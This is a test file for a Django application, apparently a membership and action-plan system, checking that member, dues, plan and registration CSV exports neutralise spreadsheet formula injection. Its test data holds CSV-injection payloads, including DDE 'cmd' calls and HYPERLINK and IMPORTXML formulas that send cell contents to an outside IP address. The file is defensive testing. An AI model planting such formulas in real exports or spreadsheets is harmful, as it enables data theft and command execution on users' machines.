"""CSV exports safe to open in a spreadsheet (OWASP, "CSV Injection"): members, dues, plan, registrations.

A cell a spreadsheet would take for a formula (=, +, -, @, tab, carriage return first) is written after an
apostrophe, which spreadsheets read as "text" and do not show. The members', dues' and plan's files still read
back to the same values. E-mail addresses that start like a formula are refused where they are typed.
"""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from actionplan.models import Action, ActionPlan
from actionplan.resources import export_plan_csv, import_plan_csv
from common.spreadsheet import neutralise, restore
from events.models import Registration
from members.models import DuesPayment, Member
from tests.factories import DuesRecordFactory, EventFactory, MemberFactory, PersonFactory
from tests.utils import page_text

pytestmark = pytest.mark.django_db

FORMULA_EMAIL = "=1+cmd|'/Ccalc'!A0@vte.example"
HOSTILE = {
    "description": '=HYPERLINK("http://198.51.100.7/?leak="&A1,"Cliquez")',
    "phone": "+855 23 724 000",
    "address": "@SUM(1+9)*cmd|' /C calc'!A0",
    "local_name": "-2+3+cmd|' /C calc'!A0",
    "website": "",
}


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def no_cell_is_a_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+855", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''", "'", "ordinaire", "", "1000.00", "2023-05-18"],
)
def test_neutralise_then_restore_gives_the_value_back(value):
    written = neutralise(value)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(written) == value


@pytest.fixture
def hostile_member(db):
    member = MemberFactory(slug="pursat", name="Province de Pursat", **HOSTILE)
    # An address stored before input refused such values.
    Member.objects.filter(pk=member.pk).update(email=FORMULA_EMAIL)
    return member


def export_members(client) -> bytes:
    fields = ["slug", "name", "local_name", "kind", "country", "is_aimf_member", "email", "phone", "website"]
    data = {"format": "0", "resource": "0", **{f"memberresource_{name}": "on" for name in [*fields, "description"]}}
    response = client.post("/admin/members/member/export/", data)
    assert response.status_code == 200
    return response.content


def test_the_members_export_neutralises_formulas(coordinator_client, hostile_member):
    table = cells(export_members(coordinator_client))
    no_cell_is_a_formula(table)
    row = dict(zip(table[0], next(r for r in table if "pursat" in r), strict=True))
    assert row["email"] == "'" + FORMULA_EMAIL
    assert row["phone"] == "'+855 23 724 000"
    assert row["description"] == "'" + HOSTILE["description"]


def test_the_members_export_reads_back_unchanged(coordinator_client, hostile_member):
    Member.objects.filter(pk=hostile_member.pk).update(email="contact@pursat.example")
    content = export_members(coordinator_client)
    response = coordinator_client.post(
        "/admin/members/member/import/",
        {"import_file": SimpleUploadedFile("m.csv", content, "text/csv"), "format": "0", "resource": "0"},
    )
    assert response.context["confirm_form"] is not None, page_text(response)[-2000:]
    result = response.context["result"]
    assert [row.import_type for row in result.rows] == ["skip"] * len(result.rows)


def test_the_dues_export_neutralises_formulas(coordinator_client):
    DuesRecordFactory(member=MemberFactory(slug="kampot"), year=2024, reference="=cmd|' /C calc'!A0")
    fields = ["member", "year", "amount_due", "amount_paid", "status", "paid_on", "reference"]
    response = coordinator_client.post(
        "/admin/members/duesrecord/export/",
        {"format": "0", "resource": "0", **{f"duesrecordresource_{name}": "on" for name in fields}},
    )
    table = cells(response.content)
    no_cell_is_a_formula(table)
    assert table[1] == ["kampot", "2024", "1000.00", "1000.00", "paid", "", "'=cmd|' /C calc'!A0"]
    # Read back: the same reference.
    response = coordinator_client.post(
        "/admin/members/duesrecord/import/",
        {"import_file": SimpleUploadedFile("d.csv", response.content, "text/csv"), "format": "0", "resource": "0"},
    )
    assert [row.import_type for row in response.context["result"].rows] == ["skip"]
    assert DuesPayment.objects.get().reference == "=cmd|' /C calc'!A0"  # the payment holds the reference


def test_the_plan_export_neutralises_formulas_and_imports_back_unchanged(rvase_2023):
    plan = ActionPlan.objects.get(year=2023)
    action = Action.objects.get(plan=plan, number=1)
    action.activities = '- Réunion annuelle\n- =HYPERLINK("http://198.51.100.7")'
    action.proposals = '=IMPORTXML("http://198.51.100.7/?"&A1,"//a")'
    action.save()
    content = export_plan_csv(plan=plan)
    table = cells(content)
    no_cell_is_a_formula(table)
    report = import_plan_csv(plan=plan, content=content, by=None, dry_run=True)
    assert not report.has_errors
    assert report.changes == 0
    action.refresh_from_db()
    assert action.proposals == '=IMPORTXML("http://198.51.100.7/?"&A1,"//a")'


def test_the_registrations_export_neutralises_formulas(coordinator_client):
    member = MemberFactory(name="@Ville")
    event = EventFactory(title="=Atelier", starts_at=datetime.datetime(2030, 3, 1, 9, tzinfo=datetime.UTC))
    person = PersonFactory(member=member, full_name="-Lan Pham", phone="+856 21 000", email="lan@vientiane.example")
    Registration.objects.create(event=event, person=person)
    response = coordinator_client.post(
        "/admin/events/registration/",
        {"action": "export_csv", "_selected_action": [Registration.objects.get().pk]},
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    table = cells(response.content)
    no_cell_is_a_formula(table)
    assert table[0][:5] == ["event", "member", "person", "email", "phone"]
    assert table[1][:5] == ["'=Atelier", "'@Ville", "'-Lan Pham", "lan@vientiane.example", "'+856 21 000"]


# ---- at input ------------------------------------------------------------------------------------------------------


def test_the_member_page_refuses_a_formula_leading_address(focal_point_client, focal_point):
    member = focal_point.member
    response = focal_point_client.post(
        f"/members/{member.slug}/edit/",
        {
            "member": member.slug,
            "email": FORMULA_EMAIL,
            "officials-TOTAL_FORMS": "0",
            "officials-INITIAL_FORMS": "0",
            "officials-MIN_NUM_FORMS": "0",
            "officials-MAX_NUM_FORMS": "30",
        },
    )
    assert response.status_code == 200
    assert "Une adresse e-mail ne peut pas commencer par =." in page_text(response)
    member.refresh_from_db()
    assert member.email == ""


def test_the_members_import_refuses_a_formula_leading_address(coordinator_client, db):
    MemberFactory(slug="kampot")  # its country
    content = (
        "slug,name,local_name,kind,country,is_aimf_member,email,phone,website,description\n"
        f'pursat,Pursat,,province,KH,true,"{FORMULA_EMAIL}",,,\n'
    ).encode()
    response = coordinator_client.post(
        "/admin/members/member/import/",
        {"import_file": SimpleUploadedFile("m.csv", content, "text/csv"), "format": "0", "resource": "0"},
    )
    assert response.context.get("confirm_form") is None
    assert "Une adresse e-mail ne peut pas commencer par =." in page_text(response)
    assert not Member.objects.filter(slug="pursat").exists()


def test_the_admin_refuses_a_formula_leading_address_for_a_person(coordinator_client):
    response = coordinator_client.post(
        "/admin/members/person/add/", {"full_name": "Lan Pham", "email": "+1@vte.example"}
    )
    assert response.status_code == 200
    assert "Une adresse e-mail ne peut pas commencer par +." in page_text(response)
